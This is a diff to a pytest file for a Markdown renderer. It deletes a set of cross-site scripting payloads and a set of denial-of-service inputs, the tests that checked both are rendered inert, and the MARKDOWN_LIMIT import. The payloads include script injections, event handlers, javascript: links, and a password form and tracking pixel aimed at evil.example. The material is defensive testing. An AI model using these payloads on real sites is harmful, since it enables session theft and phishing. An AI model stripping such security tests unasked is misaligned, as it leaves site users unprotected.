@@ -6,7 +6,6 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from labsite.markdown import (
-    MARKDOWN_LIMIT,
     MarkdownField,
     RenderedMarkdown,
     inline_math,
@@ -15,103 +14,6 @@ from labsite.markdown import (
 from labsite.widgets import MarkdownWidget
 from people.models import Page
 from tests.labsite.allowed_html import inspect
-
-HOSTILE = {
-    "script": "<script>alert(1)</script>",
-    "picture with a handler": "<img src=x onerror=alert(1)>",
-    "drawing with a handler": "<svg onload=alert(1)><circle/></svg>",
-    "frame": '<iframe src="https://evil.example"></iframe>',
-    "form for a password": '<form action="https://evil.example"><input type="password"></form>',
-    "redirect": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-    "base address": '<base href="https://evil.example/">',
-    "style sheet": "<style>body{display:none}</style>",
-    "overlay": '<div style="position:fixed;inset:0">x</div>',
-    "javascript link": "[x](javascript:alert(1))",
-    "mixed case and a tab": "[x](jAvA\tscript:alert(1)) [y](<java\tscript:alert(1)>)",
-    "entity in a scheme": "[x](&#106;avascript:alert(1)) [y](&#x6a;avascript:alert(1))",
-    "data address": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "picture in the text": "![x](data:image/svg+xml;base64,PHN2Zy8+)",
-    "vbscript link": "[x](vbscript:msgbox(1))",
-    "reference to javascript": "[x][1]\n\n[1]: javascript:alert(1)",
-    "javascript autolink": "<javascript:alert(1)>",
-    "quotes in a title": '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
-    "quotes in a description": '![" onerror="x](/media/a.webp)',
-    "attribute list": "a paragraph\n{: onclick=alert(1) }",
-    "Markdown in HTML": '<div markdown=1 onclick="alert(1)">**x**</div>',
-    "mutation": (
-        "<math><mtext><table><mglyph><style><!--</style>"
-        '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
-    ),
-    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-    "picture that reports visitors": "![x](https://evil.example/p.gif) ![y](//evil.example/p)",
-    "media address that leads out": "![x](/media/../admin/logout/) ![y](/media/%2e%2e/admin/)",
-    "reversed text": "[safe\u202egpj.exe](https://\u202eexample.org)",
-    "script in a formula": "$x<script>alert(1)</script>_1$ $<img src=x onerror=alert(1)>^2$",
-    "attribute in a formula": '$\\text{" onclick="alert(1)}_1$',
-}
-
-
-@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
-def test_hostile_markdown_is_rendered_inert(text):
-    assert inspect(render(text)).violations == []
-
-
-@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
-def test_hostile_titles_are_rendered_inert(text):
-    assert inspect(inline_math(text)).violations == []
-
-
-def test_inspector_sees_what_the_sanitiser_has_to_remove():
-    seen = inspect(
-        '<script>1</script><p onclick="x"><a href="javascript:1"><img src="//e/x"><!-- -->'
-    )
-
-    assert seen.violations == [
-        "<script>",
-        "p onclick",
-        "a href=javascript:1",
-        "foreign //e/x",
-        "comment",
-    ]
-
-
-def filled(unit):
-    return (unit * MARKDOWN_LIMIT)[:MARKDOWN_LIMIT]
-
-
-EXPENSIVE = {
-    "opening brackets": filled("["),
-    "nested brackets": "[" * 10_000 + "]" * 10_000,
-    "links in links": filled("[a]("),
-    "pictures in pictures": filled("![a]("),
-    "quotes": filled(">"),
-    "staircase of quotes": "\n".join("> " * depth + "a" for depth in range(1, 140))[
-        :MARKDOWN_LIMIT
-    ],
-    "staircase of lists": "\n".join("  " * depth + "- a" for depth in range(140))[:MARKDOWN_LIMIT],
-    "lists on one line": filled("- - - a\n"),
-    "definitions": filled("a\n: b\n"),
-    "unclosed links": filled("<a "),
-    "unclosed elements": filled("<div>"),
-    "unclosed sections": filled("<![CDATA["),
-    "growing backticks": " ".join("`" * length for length in range(1, 198))[:MARKDOWN_LIMIT],
-    "crossing emphasis": filled("*a_ "),
-    "footnotes": filled("[^1]: a\n*[b]: c\n"),
-    "wide table": "|a" * 4_990 + "|\n" + "|-" * 4_990 + "|",
-    "entities": filled("&#x"),
-    "dollars": filled("$"),
-    "unclosed formulas": filled("$a_"),
-    "formulas": filled("$a_1$ "),
-    "deep formula": "$" + "{_" * 140 + "}" * 10 + "$",
-    "deep indices": "$" + "x_" * 140 + "y$",
-}
-
-
-@pytest.mark.parametrize("text", EXPENSIVE.values(), ids=EXPENSIVE.keys())
-def test_texts_made_to_be_expensive_are_rendered_inert_at_the_limit(text):
-    assert len(text) <= MARKDOWN_LIMIT
-    assert inspect(render(text)).violations == []
-    assert inspect(inline_math(text)).violations == []
 
 
 def test_longer_text_is_refused_in_words_and_never_cut():
@@ -177,8 +79,7 @@ def test_title_without_a_formula_is_printed_letter_by_letter(title):
         ),
         (
             "![a boat](/media/pictures/a.webp)",
-            '<p><img src="/media/pictures/a.webp" alt="a boat" '
-            'loading="lazy" sizes="(min-width: 48rem) 40rem, 100vw"></p>\n',
+            '<p><img src="/media/pictures/a.webp" alt="a boat" loading="lazy"></p>\n',
         ),
         (
             "![a boat](https://elsewhere.example/a.png)",
